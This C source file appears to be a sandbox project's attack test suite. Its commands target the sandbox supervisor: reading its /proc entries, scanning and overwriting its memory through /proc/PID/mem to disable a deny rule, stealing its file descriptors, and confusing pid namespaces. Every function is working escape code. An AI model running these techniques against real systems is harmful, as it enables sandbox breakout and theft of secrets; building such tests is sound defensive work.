/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The supervisor's own /proc/PID. An open performed by the supervisor runs
 * in the supervisor's thread group, and the kernel's ptrace check on
 * /proc/PID/{mem,cwd,root,fd,environ,maps} always passes for the caller's
 * own thread group, whatever fsuid or capabilities were borrowed. So the
 * program asks the supervisor to open the supervisor's own entries.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* read PATH: open (through the supervisor) and read; @SUP and @SUPTID expanded. */
static int cmd_read(int argc, char **argv)
{
	if (argc != 1)
		return 2;
	note("reading %s", expand_path(argv[0]));
	return leak_path(AT_FDCWD, expand_path(argv[0]));
}

/* read-at DIR REL: a dirfd of DIR (e.g. /proc/@SUP), then REL from it. */
static int cmd_read_at(int argc, char **argv)
{
	int dirfd, r;

	if (argc != 2)
		return 2;
	dirfd = open(expand_path(argv[0]), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dirfd < 0)
		return blocked(errno);
	r = leak_path(dirfd, argv[1]);
	close(dirfd);
	return r;
}

/* open-rw PATH: is PATH (the supervisor's mem) handed out for writing? */
static int cmd_open_rw(int argc, char **argv)
{
	int fd;

	if (argc != 1)
		return 2;
	fd = open(expand_path(argv[0]), O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return blocked(errno);
	result("OPENED-RW %s", expand_path(argv[0]));
	return 0;
}

/* The largest mapping scanned: more than any heap or stack of ours. */
#define MAPPING_MAX (4UL << 30)

int maps_read(pid_t pid, struct mapping *maps, int max)
{
	char path[64], line[512];
	int n = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	f = fopen(path, "re");
	if (!f)
		return -errno;
	while (n < max && fgets(line, sizeof(line), f)) {
		char perms[8] = "";

		if (sscanf(line, "%lx-%lx %7s", &maps[n].start, &maps[n].end, perms) != 3)
			continue;
		/* Writable data only: the heap and stacks, where a parsed policy lives. */
		if (perms[0] != 'r' || perms[1] != 'w' || strstr(line, "[vvar"))
			continue;
		/* Not a sanitizer's shadow (terabytes of zeros, reserved, never a
		 * policy): reading it would outlast every time limit. */
		if (maps[n].end - maps[n].start > MAPPING_MAX)
			continue;
		n++;
	}
	fclose(f);
	return n;
}

long mem_scan(mem_io io, void *ctx, const struct mapping *maps, int n, const char *needle,
	      bool flip, unsigned long *ret_first)
{
	static char chunk[1 << 20];
	size_t nlen = strlen(needle);
	long hits = 0;

	for (int i = 0; i < n; i++) {
		for (unsigned long a = maps[i].start; a < maps[i].end;) {
			size_t want = maps[i].end - a < sizeof(chunk) ? maps[i].end - a : sizeof(chunk);
			ssize_t got = io(ctx, chunk, want, a, false);
			long off = 0, at;

			if (got <= 0)
				break;
			while ((at = find_bytes(chunk + off, (size_t)got - off, needle, nlen)) >= 0) {
				unsigned long addr = a + (unsigned long)(off + at);

				if (hits++ == 0)
					*ret_first = addr;
				if (flip && io(ctx, "X", 1, addr, true) != 1)
					note("flip at %#lx failed: %s", addr, errname(errno));
				off += at + (long)nlen;
			}
			/* Overlap by the needle's length so a copy across chunks is seen. */
			a += (unsigned long)got > nlen ? (unsigned long)got - nlen : (unsigned long)got;
		}
	}
	return hits;
}

/* The mem_io of /proc/PID/mem. */
static ssize_t memfd_io(void *ctx, void *buf, size_t len, unsigned long addr, bool write)
{
	int fd = *(int *)ctx;

	return write ? pwrite(fd, buf, len, (off_t)addr) : pread(fd, buf, len, (off_t)addr);
}

/* mem-scan PID NEEDLE: read pid's memory through /proc/PID/mem, opened by the supervisor. */
static int cmd_mem_scan(int argc, char **argv)
{
	static struct mapping maps[512];
	unsigned long first = 0;
	char path[64];
	pid_t pid;
	int fd, n;
	long hits;

	if (argc != 2)
		return 2;
	pid = parse_pid(argv[0]);
	n = maps_read(pid, maps, 512);
	if (n < 0)
		return blocked(-n);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return blocked(errno);
	hits = mem_scan(memfd_io, &fd, maps, n, argv[1], false, &first);
	close(fd);
	if (hits == 0)
		return blocked(ENOENT);
	result("LEAK %zu memory of %d at %#lx: %s", strlen(argv[1]), (int)pid, first, argv[1]);
	return 0;
}

/*
 * mem-flip PID NEEDLE PATH: overwrite the first byte of every copy of
 * NEEDLE (the denied path, as the policy holds it) in pid's memory, then
 * open PATH, which that rule denied.
 */
static int cmd_mem_flip(int argc, char **argv)
{
	static struct mapping maps[512];
	unsigned long first = 0;
	char path[64];
	pid_t pid;
	int fd, n;
	long hits;

	if (argc != 3)
		return 2;
	pid = parse_pid(argv[0]);
	n = maps_read(pid, maps, 512);
	if (n < 0)
		return blocked(-n);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return blocked(errno);
	hits = mem_scan(memfd_io, &fd, maps, n, argv[1], true, &first);
	close(fd);
	note("flipped %ld copies of the needle in %d's memory (first at %#lx)", hits, (int)pid,
	     first);
	return leak_path(AT_FDCWD, argv[2]);
}

/* Is fd the same file as our own fd n (our stdio, shared with the supervisor)? */
static bool same_as_ours(int fd, int n)
{
	struct stat a, b;

	return fstat(fd, &a) == 0 && fstat(n, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

/*
 * What one of the supervisor's fds gave us, if anything worth having: a
 * regular file (its first line is shown: a secret shows up in the output)
 * or an object with no path at all (a listener, a socket). Directories,
 * devices and our own stdio are no news.
 */
static bool steal_one(pid_t pid, const char *num, char *names, size_t size)
{
	char path[320], self[64], link[256], head[128] = "";
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/fd/%s", (int)pid, num);
	fd = open(path, O_RDWR | O_CLOEXEC | O_NOCTTY);
	if (fd < 0)
		fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY);
	if (fd < 0) {
		note("fd %s: %s", num, errname(errno));
		return false;
	}
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	n = readlink(self, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	if (fstat(fd, &st) < 0 || S_ISDIR(st.st_mode) || S_ISCHR(st.st_mode) ||
	    S_ISFIFO(st.st_mode) || same_as_ours(fd, 1) || same_as_ours(fd, 2)) {
		close(fd);
		note("fd %s: opened %s (nothing new)", num, link);
		return false;
	}
	n = pread(fd, head, sizeof(head) - 1, 0);
	head[n > 0 ? n : 0] = '\0';
	head[strcspn(head, "\n")] = '\0';
	close(fd);
	note("fd %s: opened %s: %s", num, link, head);
	snprintf(names + strlen(names), size - strlen(names), "%s%s=%s", *names ? "," : "", num,
		 link);
	return true;
}

/* fd-steal PID: open each of PID's fds through /proc/PID/fd (opened by the supervisor). */
static int cmd_fd_steal(int argc, char **argv)
{
	char path[64], names[2048] = "";
	struct dirent *e;
	int stolen = 0;
	pid_t pid;
	DIR *d;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
	d = opendir(path);
	if (!d)
		return blocked(errno);
	while ((e = readdir(d)))
		if (e->d_name[0] != '.' && steal_one(pid, e->d_name, names, sizeof(names)))
			stolen++;
	closedir(d);
	if (stolen == 0)
		return blocked(EACCES);
	result("STOLE %d %s", stolen, names);
	return 0;
}

/* The Pid: line of a status file, or -1. */
static long status_pid(const char *path)
{
	char line[128];
	long pid = -1;
	FILE *f = fopen(path, "re");

	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "Pid:", 4) == 0)
			pid = strtol(line + 4, NULL, 10);
	if (f)
		fclose(f);
	return f ? pid : -errno;
}

/* In the new pid namespace: whose status does /proc/self/status describe? */
static void self_ns_child(pid_t sup, int out)
{
	char line[128];
	long pid = -1;
	FILE *f = fopen("/proc/self/status", "re");
	int n;

	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "Pid:", 4) == 0)
			pid = strtol(line + 4, NULL, 10);
	if (!f)
		n = snprintf(line, sizeof(line), "BLOCKED %s", errname(errno));
	else if (pid == sup)
		n = snprintf(line, sizeof(line), "LEAK 0 /proc/self is the supervisor (%ld)", pid);
	else
		n = snprintf(line, sizeof(line), "BLOCKED self-is-self pid=%ld", pid);
	if (write(out, line, (size_t)n) != n)
		_exit(1);
	_exit(0);
}

/* self-ns [userns]: /proc/self from a foreign pid namespace, the host /proc still mounted. */
static int cmd_self_ns(int argc, char **argv)
{
	int flags = CLONE_NEWPID, p[2];
	pid_t sup = sup_pid(), child;
	char buf[256] = "";
	ssize_t n;

	if (argc == 1 && strcmp(argv[0], "userns") == 0)
		flags |= CLONE_NEWUSER;
	if (pipe(p) < 0 || unshare(flags) < 0)
		return setup_failed("unshare", errno);
	child = fork();
	if (child < 0)
		return setup_failed("fork", errno);
	if (child == 0)
		self_ns_child(sup, p[1]);
	close(p[1]);
	n = read(p[0], buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	waitpid(child, NULL, 0);
	result("%s", *buf ? buf : "SETUP child silent");
	return 0;
}

/*
 * self-procmount DIR: a procfs of our (the host's) pid namespace mounted at
 * DIR, then a child in a new pid namespace opens DIR/self/status. The
 * kernel names the child by its pid in DIR's namespace; a supervisor that
 * names it by its pid in its own namespace (1) opens init's entries.
 */
static int cmd_self_procmount(int argc, char **argv)
{
	char path[4096];
	int p[2];
	long seen = 0;
	pid_t child;

	if (argc != 1)
		return 2;
	if (pipe(p) < 0 || unshare(CLONE_NEWPID | CLONE_NEWNS) < 0 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    mount("proc", argv[0], "proc", 0, NULL) < 0)
		return setup_failed("procfs", errno);
	snprintf(path, sizeof(path), "%s/self/status", argv[0]);
	child = fork();
	if (child == 0) {
		seen = status_pid(path);
		_exit(write(p[1], &seen, sizeof(seen)) == sizeof(seen) ? 0 : 1);
	}
	close(p[1]);
	if (child < 0 || read(p[0], &seen, sizeof(seen)) != sizeof(seen))
		return setup_failed("child", errno);
	waitpid(child, NULL, 0);
	if (seen < 0)
		return blocked((int)-seen);
	if (seen == child)
		result("BLOCKED self-is-self pid=%ld", seen);
	else
		result("WRONG %s named pid %ld, not the program (%d)", path, seen, (int)child);
	return 0;
}

const struct attack_cmd attack_proc_cmds[] = {
	{ "read", "PATH                 open+read (through the supervisor)", cmd_read },
	{ "read-at", "DIR REL           openat(open(DIR), REL)+read", cmd_read_at },
	{ "open-rw", "PATH              open O_RDWR: OPENED-RW", cmd_open_rw },
	{ "mem-scan", "PID NEEDLE       NEEDLE in PID's memory via /proc/PID/mem", cmd_mem_scan },
	{ "mem-flip", "PID NEEDLE PATH  overwrite NEEDLE in PID's memory, read PATH",
	  cmd_mem_flip },
	{ "fd-steal", "PID              open each /proc/PID/fd/N", cmd_fd_steal },
	{ "self-ns", "[userns]          /proc/self from a new pid namespace", cmd_self_ns },
	{ "self-procmount", "DIR        DIR/self from a new pid namespace, DIR the host's procfs",
	  cmd_self_procmount },
	{ NULL, NULL, NULL },
};
